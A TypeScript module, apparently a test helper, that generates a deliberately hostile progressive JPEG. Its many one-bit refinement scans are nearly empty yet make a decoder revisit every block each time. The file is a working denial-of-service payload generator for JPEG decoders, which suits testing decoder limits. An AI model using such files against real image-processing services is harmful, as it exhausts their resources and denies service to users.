interface HostileJpeg {
  width: number;
  height: number;
  /** 1 for greyscale, 3 for colour without subsampling. */
  components: 1 | 3;
  /**
   * Number of scans. The format allows one scan of all components plus 882 scans per component; with a higher number, the file has
   * only these.
   */
  scans: number;
}

/** Highest bit position of the format's successive approximation: number of refinement scans per coefficient. */
const MAX_BIT_POSITION = 13;
/** Blocks that one end-of-band run covers. */
const BLOCKS_PER_RUN = 16_384;
/** The Huffman code of a run has one bit. Then 14 bits contain the number of further blocks, here 0. */
const BITS_PER_RUN = 15;

const createSegment = (marker: number, ...data: number[]) =>
  Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 0xff, ...data]);
/** Creates a Huffman table with one symbol, whose code is a single 0 bit. */
const createHuffmanTable = (id: number, symbol: number) =>
  createSegment(0xc4, id, 1, ...Array<number>(15).fill(0), symbol);
const createZeroBits = (bits: number) => Buffer.alloc(Math.ceil(bits / 8));

/**
 * Returns a legal progressive JPEG of one colour with the given number of scans: each coefficient has its own
 * scans, one bit each. All data are zero bits, so a scan has few bytes, but a decoder visits every block of
 * the image for each scan.
 */
export function createHostileJpeg({ width, height, components, scans }: HostileJpeg): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const ids = Array.from({ length: components }, (_, n) => n + 1);
  // `high` and `low` are Ah and Al of the format: the bit position of the coefficient's previous scan, and that of this scan.
  const createScan = (
    componentIds: readonly number[],
    band: [first: number, last: number],
    high: number,
    low: number,
  ) =>
    createSegment(
      0xda,
      componentIds.length,
      ...componentIds.flatMap((id) => [id, 0]),
      ...band,
      (high << 4) | low,
    );
  const segments = [
    Buffer.from([0xff, 0xd8]),
    createSegment(0xdb, 0, ...Array<number>(64).fill(1)),
    createSegment(
      0xc2,
      8,
      height >> 8,
      height & 0xff,
      width >> 8,
      width & 0xff,
      components,
      ...ids.flatMap((id) => [id, 0x11, 0]),
    ),
    createHuffmanTable(0x00, 0x00),
    // The symbol 0xe0 is an end-of-band run: 16,384 blocks, plus a number of 14 bits, without a coefficient.
    createHuffmanTable(0x10, 0xe0),
    createScan(ids, [0, 0], 0, 0),
    createZeroBits(blocks * components),
  ];
  const zeroRun = createZeroBits(Math.ceil(blocks / BLOCKS_PER_RUN) * BITS_PER_RUN);
  let remainingScans = scans - 1;
  for (let low = MAX_BIT_POSITION; low >= 0; low -= 1) {
    for (const id of ids) {
      for (let coefficient = 1; coefficient < 64 && remainingScans > 0; coefficient += 1) {
        segments.push(
          createScan([id], [coefficient, coefficient], low === MAX_BIT_POSITION ? 0 : low + 1, low),
          zeroRun,
        );
        remainingScans -= 1;
      }
    }
  }
  return Buffer.concat([...segments, Buffer.from([0xff, 0xd9])]);
}
